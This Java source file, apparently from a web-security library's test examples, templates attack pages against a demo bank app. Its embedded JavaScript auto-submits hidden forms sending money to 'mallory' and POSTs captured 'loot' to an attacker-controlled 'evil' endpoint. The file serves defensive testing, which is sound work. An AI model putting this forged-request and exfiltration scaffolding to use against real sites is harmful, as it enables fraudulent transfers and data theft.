package dev.cordon.examples.bank.evil;

import java.net.URI;

/** The page of an attack: what it says to a reader, and the script that does it. */
final class AttackPage {

  private static final String TEMPLATE =
      """
      <!doctype html>
      <html lang="en">
      <head>
      <meta charset="utf-8">
      <title>@ID@</title>
      @HEAD@
      <link rel="stylesheet" href="/evil.css">
      </head>
      <body>
      <h1>@TITLE@</h1>
      <p>@ID@, against <code>@T@</code>, from <code>@FROM@</code></p>
      <script>
      const T = '@T@', S = '@S@', E = '@E@', B = '@B@';
      const NAME = '@NAME@', ID = '@ID@', AUTHORITY = '@AUTHORITY@', PORT = '@PORT@';
      const PAY = 'to=mallory&amount=1000';
      const JSON_PAY = JSON.stringify({to: 'mallory', amount: 1000});
      const sleep = ms => new Promise(wake => setTimeout(wake, ms));
      const within = (ms, promise) => Promise.race([promise, sleep(ms)]);
      const report = (kind, text) => fetch(E + '/' + kind + '/' + NAME + '/' + ID,
        {method: 'POST', mode: 'no-cors', body: String(text)});
      const loot = text => report('loot', text);
      const genuine = user => fetch('/genuine/' + NAME + '/' + ID + '?user=' + user)
        .then(answer => answer.text());
      const element = (tag, attributes) => new Promise(settle => {
        const e = Object.assign(document.createElement(tag), attributes);
        e.onload = () => settle('load');
        e.onerror = () => settle('error');
        document.body.append(e);
      });
      const form = (action, fields, enctype) => {
        const f = document.createElement('form');
        f.method = 'POST';
        f.action = action;
        f.enctype = enctype || 'application/x-www-form-urlencoded';
        for (const [name, value] of Object.entries(fields)) {
          const input = document.createElement('input');
          input.type = 'hidden';
          input.name = name;
          input.value = value;
          f.append(input);
        }
        document.body.append(f);
        f.submit();
      };
      const attack = async () => {
      @SCRIPT@
      };
      const end = async result => {
        window.attackDone = JSON.stringify(result);
        await report('done', window.attackDone).catch(() => {});
        document.title = 'done';
      };
      attack().then(() => @THEN@, error => end({error: String(error)}));
      </script>
      </body>
      </html>
      """;

  private AttackPage() {}

  static String of(Attack attack, Targets targets) {
    URI target = targets.target();
    return TEMPLATE
        .replace("@ID@", attack.id())
        .replace("@TITLE@", attack.title().replace("&", "&amp;").replace("<", "&lt;"))
        .replace("@HEAD@", attack.head())
        .replace("@FROM@", targets.from(attack.position()).toString())
        .replace("@THEN@", attack.ending() == Ending.REPORTS ? "end({ran: true})" : "0")
        .replace("@T@", target.toString())
        .replace("@S@", targets.sibling().toString())
        .replace("@E@", targets.evil().toString())
        .replace("@B@", targets.bounce().toString())
        .replace("@NAME@", targets.name())
        .replace("@AUTHORITY@", target.getAuthority())
        .replace("@PORT@", String.valueOf(target.getPort()))
        .replace("@SCRIPT@", attack.script().strip());
  }
}
